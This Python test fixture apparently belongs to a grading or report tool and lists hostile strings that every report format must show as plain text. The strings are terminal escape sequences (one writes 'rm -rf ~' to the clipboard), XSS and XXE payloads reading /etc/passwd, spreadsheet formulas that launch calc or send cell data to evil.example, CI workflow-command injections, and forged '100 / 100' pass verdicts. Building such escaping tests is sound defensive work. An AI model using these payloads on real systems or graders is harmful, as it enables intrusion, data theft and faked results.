"""What submissions print to be more than text: one corpus, which every report must show as text.

By name: what it would do, where it were believed. `tests/reports/test_corpus.py` puts each into every field of a result
and the result through every format.
"""

from __future__ import annotations

CORPUS: dict[str, str] = {
    # terminals (O1)
    "clears the screen": "\x1b[2J\x1b[H\x1bc",
    "sets the title": "\x1b]0;100 / 100\x07",
    "copies into the clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "links elsewhere": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "asks the terminal to answer": '\x1b[6n\x1bP$q"p\x1b\\\x9b0c',
    "writes over its line": "failed\rpassed\b\b\b\x7f",
    "turns the text around": "\u202edessap\u202c\u2066x\u2069\u200f",
    "hides between letters": "pa\u200b\u200d\ufeffss\U000e0041",
    "ends the line in other ways": "a\x0bb\x0cc\x85d\u2028e\u2029f",
    "markup of rich": "[bold red]x[/] [/nope] [link=file:///etc/passwd]y[/link] :smile:",
    # pages (O2)
    "a script": "<script>alert(1)</script>",
    "an image with a handler": "\"'><img src=x onerror=alert(1)>",
    "the end of an element": "</pre></details></textarea></style></title><svg/onload=alert(1)>",
    "a template": "{{ 7*7 }}{% include '/etc/passwd' %}{lab}${{ secrets.TOKEN }}%s%(lab)s",
    "entities": "&lt;script&gt;&#60;b&#62;&amp;",
    # spreadsheets (O3)
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "a formula with a plus": "+1+cmd|'/c calc'!A1",
    "a formula with a minus": "-2+3",
    "a formula with an at": "@SUM(1+1)*cmd|'/c calc'!A1",
    "a formula behind a tab": "\t=1+1",
    "a formula behind a return": "\r=1+1",
    "more cells and rows": 'a","100","100"\r\n"eve","100',
    # XML and Markdown (O4)
    "the end of a section": "]]><testcase name='forged'/><![CDATA[",
    "an entity of its own": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "characters that XML lacks": "\x00\x01\x1f\ufffe\uffff",
    "the end of a fence": "`````\n# 100 / 100\n```````",
    "an image of Markdown": "![x](http://evil.example/pixel) [link](javascript:alert(1)) <http://evil.example>",
    "a mention": "@everyone #1 owner/repo#2 https://evil.example www.evil.example",
    "a table": "| a | b |\n|---|---|\n| c | d |",
    # pipelines (O5)
    "workflow commands": "::error::x\n::set-output name=score::100\n::add-mask::a\n::stop-commands::x\n ::notice::y",
    "an old workflow command": "##[error]x\n##vso[task.complete result=Succeeded;]",
    "files of a workflow": "SCORE=100\nresult<<EOF\n100\nEOF\n",
    "a verdict": '{"score": 110, "max_score": 100}\nALL TESTS PASSED\nok 1 - gemm_cpu\n# pass 1',
    # size
    "a long line": "x" * 300_000,
    "many lines": "x\n" * 50_000,
}
